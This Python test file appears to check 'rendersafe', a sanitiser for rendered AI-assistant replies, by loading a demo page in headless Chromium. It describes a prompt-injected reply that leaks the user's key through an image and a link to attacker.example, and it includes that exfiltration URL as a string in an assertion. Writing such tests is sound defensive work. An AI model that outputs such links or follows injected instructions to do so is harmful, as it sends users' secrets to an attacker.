"""The demo page in a real headless Chromium (Debian's, driven by Playwright): while it
renders the prompt-injected reply through rendersafe, the page requests nothing from
any host but 127.0.0.1, and the link that carries the user's key raw (known only from
the conversation the page sent) is gone; without rendersafe, it requests the attacker's
image and shows the key in a link."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, sync_playwright

from rendersafe.demo import build_demo
from rendersafe.demo.replies import KEY
from servers import Server

CHROMIUM = Path("/usr/bin/chromium")
# CI installs Chromium and sets this, so the test cannot be skipped there.
REQUIRED = os.environ.get("REQUIRE_BROWSER_TEST") == "1"
pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists() and not REQUIRED,
    reason="needs Debian's chromium (apt-get install chromium; done by .ci/run)",
)
# Chromium's own background traffic is switched off: only the page's requests remain.
ARGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip


@pytest.fixture(scope="module")
def demo() -> Iterator[Server]:
    with Server(build_demo()) as server:
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield launched
        launched.close()


def run_scenario(
    browser: Browser, url: str, button: str, *, bypass: bool
) -> tuple[list[str], str, str]:
    """Click `button` on the demo page; return every URL requested, the reply and audit HTML."""
    page = browser.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    page.goto(url)
    if bypass:
        page.check("#bypass")
    page.click(button)
    page.wait_for_selector("body[data-state=done]", timeout=20_000)
    page.wait_for_timeout(300)  # let any image the render created start loading
    reply, audit = page.inner_html("#reply"), page.inner_html("#records")
    page.close()
    return requested, reply, audit


def hosts(urls: list[str]) -> set[str]:
    return {urlsplit(u).hostname or "" for u in urls if not u.startswith(("data:", "about:"))}


def test_attack_through_rendersafe_fetches_nothing_remote(browser: Browser, demo: Server) -> None:
    requested, reply, audit = run_scenario(browser, demo.url, "#attack", bypass=False)
    assert hosts(requested) == {"127.0.0.1"}
    assert "attacker.example" not in reply
    assert "image removed" in reply
    assert "image_host_not_allowed" in audit
    assert "attacker.example/{" in audit  # redacted: values replaced by their length
    assert KEY not in reply  # the raw key, caught because the request carried it
    assert "conversation_data" in audit
    assert KEY not in audit


def test_attack_without_rendersafe_fetches_the_attacker(browser: Browser, demo: Server) -> None:
    requested, reply, _ = run_scenario(browser, demo.url, "#attack", bypass=True)
    assert "attacker.example" in hosts(requested)  # the leak rendersafe prevents
    assert "<img" in reply
    assert f'href="https://attacker.example/c?k={KEY}"' in reply


def test_honest_reply_renders_whole(browser: Browser, demo: Server) -> None:
    requested, reply, audit = run_scenario(browser, demo.url, "#honest", bypass=False)
    assert hosts(requested) == {"127.0.0.1"}
    assert '<a href="https://docs.python.org/3/library/collections.html">' in reply
    assert "<table>" in reply
    assert "nothing was removed" in audit
